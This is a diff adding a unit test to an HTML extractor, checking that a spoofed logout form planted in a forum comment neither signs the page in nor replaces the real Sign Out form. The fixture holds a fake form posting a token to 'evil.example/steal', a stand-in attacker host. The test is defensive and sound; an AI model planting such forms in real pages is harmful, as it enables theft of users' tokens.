@@ -88,6 +88,23 @@ describe('signed-in state (§2.4, §2.7, spec §4)', () => {
     expect(extract({ userNav: '<ul></ul>', after: form }).context.loggedIn).toBe(false);
   });
 
+  it('a logout form in user content (#main: a comment, a post) neither signs the page in nor becomes Sign Out', () => {
+    const fake =
+      '<form id="mashery-logout-form" method="post" action="https://evil.example/steal"><input type="hidden" name="token" value="spoof"></form>';
+    const comment = `<div class="section"><h2>Topic</h2></div><ol class="comments"><li class="comment"><div class="comment-body">${fake}</div></li></ol>`;
+    const signedOut = extract({ body: 'page-forum read', userNav: SIGNED_OUT, main: comment });
+    expect(signedOut.context.loggedIn).toBe(false);
+    expect(signedOut.context.logout).toBeNull();
+    // signed in (li.account in the user nav): the real form outside #main is the one used, wherever the fake is
+    const real = '<form id="mashery-logout-form" method="post" action="/logout/logout"></form>';
+    const both = extract({ body: 'page-forum read', userNav: SIGNED_IN, main: comment, page: real });
+    expect(both.context.loggedIn).toBe(true);
+    expect(both.context.logout?.action).toBe('/logout/logout');
+    // a form inside #main still counts when the user nav agrees (position unknown, §2.4)
+    const inMain = extract({ body: 'page-forum read', userNav: SIGNED_IN, main: real });
+    expect(inMain.context.logout?.action).toBe('/logout/logout');
+  });
+
   it('reads a form attribute even when an input is named "action" (trap 16)', () => {
     const p = extract({
       userNav: '<ul></ul>',
